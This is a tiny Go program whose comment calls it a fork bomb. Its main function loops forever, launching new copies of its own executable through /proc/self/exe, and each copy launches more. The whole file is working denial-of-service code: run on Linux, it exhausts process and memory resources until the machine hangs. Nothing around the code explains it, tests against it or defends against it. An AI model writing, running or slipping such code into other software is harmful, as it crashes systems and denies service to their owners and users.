// A fork bomb through os/exec: every copy starts copies of itself, forever.
package main

import "os/exec"

func main() {
	for {
		_ = exec.Command("/proc/self/exe").Start()
	}
}
